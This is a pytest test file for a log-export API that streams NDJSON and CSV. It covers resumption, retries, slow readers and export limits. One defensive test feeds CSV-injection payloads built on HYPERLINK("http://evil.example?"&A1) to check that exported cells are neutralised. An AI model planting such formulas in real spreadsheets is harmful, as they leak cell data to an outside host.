"""Exports: every line once, to the end or to a place from where the next export goes on; a reader holds up only itself."""

import asyncio
import csv
import http.client
import io
import json
import threading
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.worker.running import wait_until
from tests.worker.serving.conftest import Serve
from tests.worker.serving.export_lane import ExportLane, lines_at
from tests.worker.serving.reader import Reader
from tests.worker.serving.serving import WAIT_S, HttpResponse, is_cut_off, receive, reply_to
from worker.asking.refusals import QueryReply, error_reply
from worker.asking.requests import QueryRequest
from worker.serving.export_rows import COLUMNS, CsvRows, Reached
from worker.serving.exporting import Export
from worker.serving.pending_queries import PendingQueries
from worker.serving.server import ServerLimits
from worker.serving.streams import Asking, StreamRules

AT_ONCE = ServerLimits(streams=StreamRules(poll_s=0.001, retry_s=0.0))
PATIENT = ServerLimits(streams=StreamRules(poll_s=0.001, retry_s=WAIT_S))
TIMES_MS = [1000, 1000, 1001, 1002, 1002, 1002, 1002, 1002, 1003, 1010, 1011]
LONG = "x" * 100_000
DEEP = "[" * 9_000


def path_of(query: dict[str, Any] | None = None, form: str = "ndjson") -> str:
    return "/api/export?" + urlencode({"format": form} | ({} if query is None else {"query": json.dumps(query)}))


SMALL = path_of({"filters": {"until_ms": 1}})


def rows_of(answer: HttpResponse) -> tuple[list[int], dict[str, Any]]:
    """Return the offsets of an NDJSON export, and what its last line says."""
    *lines, last = [json.loads(row) for row in answer.value.splitlines()]
    return [line["offset"] for line in lines], last["export"]


def test_every_line_comes_once_and_the_last_one_says_that_this_is_all(serve: Serve) -> None:
    serving = serve(limits=AT_ONCE)
    serving.replies = lane = ExportLane(lines_at(*TIMES_MS))
    answer = serving.get(path_of({"filters": {"service": ["web"]}, "k": 3}))
    assert (answer.status, answer.headers["Content-Type"]) == (200, "application/x-ndjson")
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="vectail-')
    offsets, end = rows_of(answer)
    assert offsets == list(range(len(TIMES_MS)))
    assert end == {"state": "complete", "lines": 11, "until_ms": 1012, "end_ms": 1012, "next": None, "reason": ""}
    assert lane.asked[0] == {"filters": {"service": ["web"]}, "k": 3}
    assert lane.asked[1]["filters"] == {"service": ["web"], "since_ms": 1002, "until_ms": 1012}
    assert rows_of(receive(serving.send(b'{"k": 3}', path="/api/export"))) == (offsets, end)


@pytest.mark.parametrize("answered", [1, 2])
def test_an_export_that_stopped_goes_on_where_its_last_line_says(serve: Serve, answered: int) -> None:
    serving = serve(limits=AT_ONCE)
    serving.replies = lane = ExportLane(lines_at(*TIMES_MS))
    lane.fails_from = answered
    first, stopped = rows_of(serving.get(path_of()))
    assert (stopped["state"], stopped["reason"], stopped["lines"]) == ("stopped", "Milvus is away", len(first))
    assert len(first) < len(TIMES_MS)
    lane.fails_from = None
    for query in (stopped["next"], {"filters": {"since_ms": stopped["until_ms"], "until_ms": stopped["end_ms"]}}):
        rest, end = rows_of(serving.get(path_of(query)))
        assert first + rest == list(range(len(TIMES_MS)))
        assert end["state"] == "complete"


def test_a_window_that_the_index_cannot_give_now_is_asked_for_again(serve: Serve) -> None:
    serving = serve(limits=PATIENT)
    serving.replies = lane = ExportLane(lines_at(*TIMES_MS))
    lane.fails_from, lane.fails_times = 2, 3
    offsets, end = rows_of(serving.get(path_of()))
    assert (offsets, end["state"]) == (list(range(len(TIMES_MS))), "complete")
    assert lane.asked[2] == lane.asked[3] == lane.asked[4] == lane.asked[5]


@pytest.mark.parametrize(("number", "written", "until_ms", "reason"), [(1, [], None, 1002), (2, [0, 1, 2], 1002, 1003)])
def test_a_window_of_which_something_cannot_be_read_is_not_written(
    serve: Serve, number: int, written: list[int], until_ms: int | None, reason: int
) -> None:
    serving = serve(limits=AT_ONCE)
    lane = ExportLane(lines_at(*TIMES_MS))

    def reply(request: QueryRequest) -> QueryReply | None:
        answered = lane(request)
        if len(lane.asked) < number or answered is None:
            return answered
        return QueryReply(answered.value.replace(b'"complete": true', b'"complete": false'), "answered")

    serving.replies = reply
    offsets, end = rows_of(serving.get(path_of()))
    assert (offsets, end["state"], end["until_ms"]) == (written, "stopped", until_ms)
    assert end["reason"] == f"not every line before {reason} ms can be read"


def test_an_index_that_stands_still_for_a_moment_is_asked_again_but_not_for_ever(serve: Serve) -> None:
    serving = serve(limits=PATIENT)
    lane = ExportLane(lines_at(*TIMES_MS))
    slow = 2

    def reply(request: QueryRequest) -> QueryReply | None:
        nonlocal slow
        query = json.loads(request.value or b"")
        if slow and "filters" in query:
            slow -= 1
            filters = query["filters"]
            stuck = {"lines": [], "until_ms": filters["since_ms"], "end_ms": filters["until_ms"], "next": query, "complete": True}
            return QueryReply(json.dumps(stuck).encode(), "answered")
        return lane(request)

    serving.replies = reply
    assert rows_of(serving.get(path_of()))[0] == list(range(len(TIMES_MS)))
    slow = 3
    offsets, end = rows_of(serving.get(path_of()))
    assert (offsets, end["state"], end["until_ms"], end["reason"].partition(":")[0]) == (
        [0, 1, 2],
        "stopped",
        1002,
        "the index is too slow",
    )


def test_a_query_that_is_refused_is_no_export(serve: Serve) -> None:
    serving = serve()
    serving.replies = lambda _request: error_reply("bad_query", "is for counts only", field="by")
    answer = serving.get(path_of({"by": ["time"]}))
    assert (answer.status, answer.error["field"]) == (400, "by")
    serving.replies = lambda _request: error_reply("unavailable", "Milvus is away")
    assert (serving.get(path_of()).status, serving.get(path_of()).headers["Retry-After"]) == (503, "5")
    for path, field in (
        (path_of(form="xlsx"), "format"),
        ("/api/export?query=%5B%5D", "query"),
        (f"/api/export?query={DEEP}", "query"),
    ):
        answer = serving.refused(None, method="GET", path=path)
        assert (answer.status, answer.error["field"]) == (400, field)


def test_csv_has_a_header_and_every_line_as_it_was(serve: Serve) -> None:
    serving = serve(limits=AT_ONCE)
    lines = lines_at(1_714_564_800_123, 1_714_564_800_124, 1_714_564_800_125)
    lines[1] |= {"text": 'two lines\r\nand "quotes", a comma', "fields": {"k8s.pod.name": "web-1", "n": 1}}
    lines[2] |= {"text": None, "sampled": True}
    serving.replies = ExportLane(lines)
    answer = serving.get(path_of(form="csv"))
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    *rows, last = csv.reader(io.StringIO(answer.value.decode(), newline=""))
    assert last == ["# complete: 3 lines"]
    first, second, third = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert tuple(rows[0]) == COLUMNS
    assert (first["time"], first["time_ms"], first["text"]) == ("2024-05-01T12:00:00.123Z", "1714564800123", "disk full 0")
    assert (second["text"], json.loads(second["fields"])) == (lines[1]["text"], lines[1]["fields"])
    assert (third["text"], third["sampled"]) == ("", "true")
    assert answer.value.count(b"\r\n") == 6


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_no_cell_is_a_formula_for_a_spreadsheet(start: str) -> None:
    formula = start + 'HYPERLINK("http://evil.example?"&A1)'
    (line,) = lines_at(-5)
    odd: Any = line | {"text": formula, "service": formula, "template_text": formula, "id": formula}
    rows = CsvRows().of(odd).decode()
    (cells,) = csv.reader(io.StringIO(rows, newline=""))
    shown = dict(zip(COLUMNS, cells, strict=True))
    assert {shown[name] for name in ("text", "service", "template_text", "id")} == {"'" + formula}
    assert shown["time_ms"] == "-5"


def test_a_csv_that_stopped_says_why_and_where_to_go_on() -> None:
    reached = Reached(7, 1003, 1012, {"as": "export"}, "Milvus\nis away")
    assert CsvRows().last(reached) == b"# stopped: Milvus is away; 7 lines; resume with since_ms=1003\r\n"
    within = CsvRows().last(reached._replace(next={"after": "logs@e1/0/7/0/0"}))
    assert within.endswith(b"; resume with since_ms=1003 after=logs@e1/0/7/0/0\r\n")
    assert CsvRows().last(Reached(reason="Milvus is away")) == b"# stopped: Milvus is away; 0 lines\r\n"


def test_a_window_is_asked_for_only_when_the_one_before_was_handed_over_and_taken() -> None:
    lane = ExportLane(lines_at(*TIMES_MS))
    seen: list[tuple[bytes, int]] = []

    def take_request(request: QueryRequest) -> bool:
        reply = lane(request)
        assert reply is not None
        request.requester.reply(reply, deadline_s=None)
        return True

    async def export() -> None:
        asking = Asking(PendingQueries(take_request, max_open=1, timeout_s=WAIT_S), "export")
        first = await asking.ask(b"{}")
        pieces = Export(asking, {}, CsvRows(), StreamRules()).pieces(first)
        seen.extend([(piece, len(lane.asked)) async for piece in pieces])

    asyncio.run(export())
    assert [asked for piece, asked in seen if piece == b""] == [1, 2, 3]  # waits for the client, and no further one is asked for
    assert [piece.count(b"disk full <*>") for piece, _ in seen] == [0, 3, 0, 5, 0, 3, 0, 0]


def test_who_does_not_read_is_asked_no_further_windows_and_disturbs_nobody(serve: Serve) -> None:
    serving = serve(limits=AT_ONCE)
    serving.replies = lane = ExportLane(lines_at(*range(400), text=LONG), k=10)
    with Reader(serving, path_of()) as reader:
        wait_until(lambda: _stands_still(lane), "the export to wait for its reader")
        assert len(lane.asked) < 20  # of 40
        assert serving.get("/api/session").status == 200
        *rows, last = reader.read().splitlines()
    assert len(rows) == 400
    assert json.loads(last)["export"]["state"] == "complete"


@pytest.mark.slow
def test_who_reads_slowly_is_not_cut_off_and_who_reads_nothing_is(serve: Serve) -> None:
    serving = serve(limits=ServerLimits(idle_s=1.5, first_byte_s=0.2, streams=StreamRules(max_exports=1)))
    serving.replies = lane = ExportLane(lines_at(*range(400), text=LONG), k=10)
    last, pauses = b"", 0
    with Reader(serving, path_of()) as reader:
        while rest := reader.read(2_000_000):
            last = rest
            pauses += is_cut_off(serving.dial())  # takes 0.2 s
    assert b'{"export":{"state":"complete"' in last[-200:]
    assert pauses * 0.2 > 2 * 1.5
    with Reader(serving, path_of()) as deaf:
        wait_until(lambda: serving.get(SMALL).status == 200, "the place of the client that reads nothing")
        assert len(lane.asked) < 60
        with pytest.raises((ConnectionResetError, http.client.IncompleteRead)):
            deaf.read()


def test_an_export_whose_client_has_gone_asks_no_more(serve: Serve) -> None:
    serving = serve(limits=ServerLimits(streams=StreamRules(max_exports=1)))
    serving.replies = lane = ExportLane(lines_at(*range(400), text=LONG), k=10)
    with Reader(serving, path_of()) as reader:
        reader.read(1)
    wait_until(lambda: serving.get(SMALL).status == 200, "the place of the export")
    assert len(lane.asked) < 25
    assert serving.said == []


def test_a_window_that_nobody_waits_for_any_more_is_an_open_query_until_it_is_answered(serve: Serve) -> None:
    serving = serve(limits=ServerLimits(open_queries=1, streams=StreamRules(max_exports=1)))
    lane = ExportLane(lines_at(*TIMES_MS))
    serving.replies = lambda request: None if lane.asked else lane(request)
    with Reader(serving, path_of()):
        request = serving.taken()
    serving.replies = lane
    wait_until(lambda: "open already" in serving.get(SMALL).error["reason"], "the end of the export")
    reply_to(request)
    wait_until(lambda: serving.get(SMALL).status == 200, "the place of its query")
    assert serving.said == []


def test_only_so_many_exports_are_read_at_once(serve: Serve) -> None:
    serving = serve(limits=ServerLimits(streams=StreamRules(max_exports=2)))
    clients = [serving.send(None, method="GET", path=path_of()) for _ in range(2)]
    requests = [serving.taken() for _ in clients]
    answer = serving.refused(None, method="GET", path=path_of())
    assert (answer.status, answer.headers["Retry-After"], answer.error["code"]) == (429, "5", "too_many")
    lane = ExportLane(lines_at(*TIMES_MS), k=100)
    for request in requests:
        reply = lane(request)
        assert reply is not None
        request.requester.reply(reply, deadline_s=None)
    assert [rows_of(receive(client))[1]["state"] for client in clients] == ["complete"] * 2
    serving.replies = lane
    assert serving.get(path_of()).status == 200


@pytest.mark.parametrize("waits_for", ["a-window", "the-next-try"])
def test_a_drain_ends_an_export_at_once_and_it_says_where(serve: Serve, waits_for: str) -> None:
    serving = serve(limits=ServerLimits(streams=StreamRules(poll_s=WAIT_S, retry_s=10 * WAIT_S)))
    lane = ExportLane(lines_at(*TIMES_MS))
    lane.fails_from = 1 if waits_for == "the-next-try" else None
    asked_again = threading.Event()

    def reply(request: QueryRequest) -> QueryReply | None:
        answered = lane(request)
        if len(lane.asked) == 2:
            asked_again.set()
            return None if waits_for == "a-window" else answered
        return answered

    serving.replies = reply
    client = serving.send(None, method="GET", path=path_of())
    assert asked_again.wait(WAIT_S)
    serving.server.stop_intake()
    offsets, end = rows_of(receive(client))
    assert (offsets, end["state"], end["reason"], end["until_ms"]) == ([0, 1, 2], "stopped", "the worker stops", 1002)


def _stands_still(lane: ExportLane) -> bool:
    before = len(lane.asked)
    threading.Event().wait(0.2)
    return len(lane.asked) == before > 1
